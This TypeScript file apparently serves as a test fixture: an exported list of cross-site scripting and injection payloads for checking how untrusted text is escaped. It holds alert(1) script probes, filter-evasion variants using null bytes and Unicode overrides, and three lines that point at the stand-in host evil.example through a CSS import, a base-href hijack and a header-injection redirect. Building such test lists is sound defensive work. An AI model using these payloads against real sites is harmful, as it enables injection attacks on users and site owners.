/** Texts that a provider, a mail server or a caller may send, each of which some reader has once obeyed. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '<svg/onload=alert(1)>',
  '</textarea><script>alert(1)</script>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href="//evil.example/">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202e<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\r\nLocation: //evil.example\r\n\r\n<script>alert(1)</script>',
];
